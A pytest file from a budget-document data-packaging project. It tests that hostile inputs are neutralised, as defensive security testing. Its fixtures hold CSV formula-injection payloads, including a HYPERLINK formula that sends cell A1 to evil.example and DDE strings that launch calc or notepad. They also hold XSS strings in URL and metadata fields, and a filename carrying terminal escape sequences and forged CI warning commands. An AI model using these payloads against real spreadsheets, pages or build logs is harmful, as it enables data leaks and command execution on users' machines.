"""Values from documents and metadata files are data everywhere: metadata checked by form, CSV
cells that no spreadsheet runs, terminal output that no control sequence passes through.
(Pages, charts and search in Chromium: test_site_injection.py; CI: tests/ci/test_ci_hostile.py.)
"""

from __future__ import annotations

import csv
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.conftest import ROOT, SOURCE_DOCS
from tests.hostile.conftest import assert_others_published, build, real_sources
from yibao.package.cells import from_cell, to_cell

SHUANGYASHAN = SOURCE_DOCS / "heilongjiang" / "shuangyashan-2024-budget.txt"
FORMULAS = {
    "社会保险经办机构": '=HYPERLINK("http://evil.example/?leak="&A1,"社会保险经办机构")',
    "行政单位离退休": "@SUM(1+1)*cmd|' /C calc'!A0",
    "机关事业单位基本养老保险缴费支出": "+1+cmd|' /C notepad'!A0",
    "行政事业单位医疗": "-2+3+cmd|' /C calc'!A0",
}


# --------------------------------------------------------------------------- metadata

METADATA = {
    # case: (value line, what the message says)
    "javascript-url": ('source_url = "javascript:alert(document.domain)"', r"source_url at line 1 must be an http:// or https://"),
    "data-url": ('source_url = "data:text/html,<script>alert(1)</script>"', r"must be an http:// or https://"),
    "ftp-url": ('source_url = "ftp://example.gov.cn/a.pdf"', r"must be an http:// or https://"),
    "url-without-host": ('source_url = "https:///a.pdf"', r"must be an http:// or https://"),
    "url-with-quote": ('source_url = "https://example.gov.cn/\\"onmouseover=alert(1)"', r"must be an http:// or https://"),
    "url-with-space": ('source_url = "https://example.gov.cn/a b.pdf"', r"must be an http:// or https://"),
    "date-in-words": ('published = "yesterday"', r"published at line 1 must be a date between 1949 and 2100"),
    "impossible-date": ('published = "2024-02-30"', r"must be a date between 1949 and 2100"),
    "date-too-early": ('published = "1900-01-01"', r"must be a date between 1949 and 2100"),
    "date-time": ("published = 2024-02-05T10:00:00", r"field 'published' at line 1 must be a date \(YYYY-MM-DD\)"),
    "year-zero": ("fiscal_year = 0", r"fiscal_year at line 1 must be a year between 1949 and 2100"),
    "year-far-away": ("fiscal_year = 99999", r"must be a year between 1949 and 2100"),
    "c1-control-in-bureau": ('bureau = "双鸭山市医疗保障局\\u0080<a autofocus onfocus=alert(1)>"', r"holds a control or invisible character \(U\+0080\)"),
    "bidi-override-in-title": ('title = "预算\\u202e算预"', r"holds a control or invisible character \(U\+202E\)"),
    "newline-in-region": ('region = "黑龙江\\n::warning::x"', r"holds a control or invisible character \(U\+000A\)"),
    "empty-bureau": ('bureau = "  "', r"field 'bureau' at line 1 is empty"),
    "long-title": ('title = "' + "预" * 301 + '"', r"longer than 300 characters"),
    "unit-with-control": ('units = ["服务中心\\u0007"]', r"U\+0007"),
}  # fmt: skip


@pytest.fixture(scope="module")
def metadata_build(tmp_path_factory: pytest.TempPathFactory) -> tuple[int, str, dict[str, list[dict[str, str]]]]:
    """One build: the four real documents, and one document per case with its bad metadata file."""
    root = tmp_path_factory.mktemp("metadata")
    text = SHUANGYASHAN.read_text(encoding="utf-8").replace("2024", "2033")
    sources = real_sources(root, {f"bad/{case}.txt": f"{text}\n{case}\n" for case in METADATA})
    for case, (line, _) in METADATA.items():
        (sources / "bad" / f"{case}.meta.toml").write_text(line + "\n", encoding="utf-8")
    return build(sources, root / "out")


@pytest.mark.parametrize("case", sorted(METADATA))
def test_metadata_value_is_checked_by_form(case: str, metadata_build, alone) -> None:
    status, log, package = metadata_build
    assert status == 1, log
    assert_others_published(package, alone)
    row = next(r for r in package["documents"] if r["source_file"] == f"src/bad/{case}.txt")
    assert row["status"] == "error"
    assert re.search(METADATA[case][1], row["problems"]), row["problems"]
    assert f"{case}.meta.toml" in row["problems"]


def test_good_metadata_is_accepted(tmp_path: Path) -> None:
    sources = real_sources(
        tmp_path, {"bad/victim.txt": SHUANGYASHAN.read_text(encoding="utf-8").replace("2024", "2033")}
    )
    (sources / "bad" / "victim.meta.toml").write_text(
        'source_url = "https://www.example.gov.cn/2033/预算.pdf"\npublished = 2033-02-05\n'
        'title = "<b>标题</b> & 说明"\nfiscal_year = 2033\n',
        encoding="utf-8",
    )
    status, log, package = build(sources, tmp_path / "out")
    assert status == 0, log
    row = next(r for r in package["documents"] if r["source_file"] == "src/bad/victim.txt")
    assert row["published"] == "2033-02-05" and row["source_url"].startswith("https://")
    assert row["title"] == "<b>标题</b> & 说明"  # markup characters are allowed: they are escaped on output


# --------------------------------------------------------------------------- CSV


def formula_text() -> str:
    text = SHUANGYASHAN.read_text(encoding="utf-8")
    for plain, formula in FORMULAS.items():
        assert plain in text
        text = text.replace(plain, formula)
    return text


def test_formula_leading_cells_are_neutralised(tmp_path: Path) -> None:
    """Row names printed as formulas reach the CSV with a leading ' (OWASP), amounts untouched."""
    sources = tmp_path / "src"
    sources.mkdir()
    (sources / "formulas.txt").write_text(formula_text(), encoding="utf-8")
    out = tmp_path / "out"
    status, log, _ = build(sources, out)
    assert status in (0, 1), log
    raw = (out / "line_items.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(raw.splitlines()) for cell in row]
    leading = [
        cell
        for cell in cells
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?\d+(\.\d+)?", cell)
    ]
    assert leading == []
    for formula in FORMULAS.values():
        expected = formula.replace(" /C", "/C")  # the name as the parser joins it
        assert any(from_cell(cell) in (formula, expected) and cell.startswith("'") for cell in cells), formula
    amounts = [row["amount"] for row in csv.DictReader((out / "line_items.csv").open(encoding="utf-8-sig"))]
    assert amounts and all(re.fullmatch(r"-?\d+\.\d+", a) for a in amounts)
    descriptor = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert "OWASP" in descriptor["x-csv-formula-escaping"]["en"]
    from frictionless import validate

    assert validate(out / "datapackage.json").valid


@given(st.text())
def test_formula_escaping_is_reversible(text: str) -> None:
    cell = to_cell(text)
    assert from_cell(cell) == text
    if len(text) > 1 and text[0] in "=+-@\t\r" and not re.fullmatch(r"-?\d+(?:\.\d+)?", text):
        assert cell.startswith("'")


@pytest.mark.parametrize("value", ["-12.50", "0.00", "=", "-", "2024", "测试", "'引号"])
def test_values_that_are_no_formula_stay_as_they_are(value: str) -> None:
    assert to_cell(value) == value


# --------------------------------------------------------------------------- terminal

HOSTILE_NAME = "evil\n::warning::forged\x1b]0;title\x07\x1b[2J\u202eexe.txt"


def test_build_log_shows_control_characters(tmp_path: Path) -> None:
    sources = tmp_path / "src"
    sources.mkdir()
    (sources / HOSTILE_NAME).write_bytes(b"")
    command = [
        sys.executable,
        str(ROOT / "build.py"),
        "data",
        "--sources",
        str(sources),
        "--out",
        str(tmp_path / "out"),
    ]
    proc = subprocess.run(command, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 1
    assert "\x1b" not in proc.stderr and "\u202e" not in proc.stderr and "\x07" not in proc.stderr
    assert not any(line.startswith("::") for line in proc.stderr.splitlines())
    assert "evil\\n::warning::forged\\x1b]0;title\\x07\\x1b[2J\\u202eexe.txt: error — " in proc.stderr


@pytest.mark.parametrize("as_json", [False, True])
def test_check_output_shows_control_characters(tmp_path: Path, as_json: bool) -> None:
    text = SHUANGYASHAN.read_text(encoding="utf-8").replace("医保经办业务经费", "医保\x1b[31m经办\u0085业务\u202e经费")
    path = tmp_path / HOSTILE_NAME
    path.write_text(text, encoding="utf-8")
    command = [sys.executable, str(ROOT / "build.py"), "check", str(path), *(["--json"] if as_json else [])]
    proc = subprocess.run(command, capture_output=True, text=True, timeout=300, cwd=tmp_path)
    assert proc.returncode in (0, 1), proc.stderr
    for char in ("\x1b", "\x07", "\u0085", "\u202e"):
        assert char not in proc.stdout, repr(char)
    if as_json:
        report = json.loads(proc.stdout)
        assert report["file"] == HOSTILE_NAME  # the JSON still holds the exact name
    else:
        assert "evil\\n::warning::forged" in proc.stdout
